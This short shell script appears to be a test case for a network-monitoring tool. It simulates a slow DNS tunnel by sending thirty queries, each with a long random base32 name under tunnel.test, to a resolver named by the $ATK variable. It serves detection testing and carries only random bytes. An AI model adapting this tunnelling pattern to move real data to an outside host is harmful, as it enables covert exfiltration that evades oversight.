# SPDX-License-Identifier: MIT
# technique: a slow DNS tunnel: one long random name every half second
# level: warning
# quick: no
t0
for i in $(seq 30); do
    dig +short +tries=1 +time=1 @"$ATK" "$(head -c 30 /dev/urandom | base32 | tr -d = | tr A-Z a-z).t.tunnel.test" TXT >/dev/null
    sleep 0.5
done
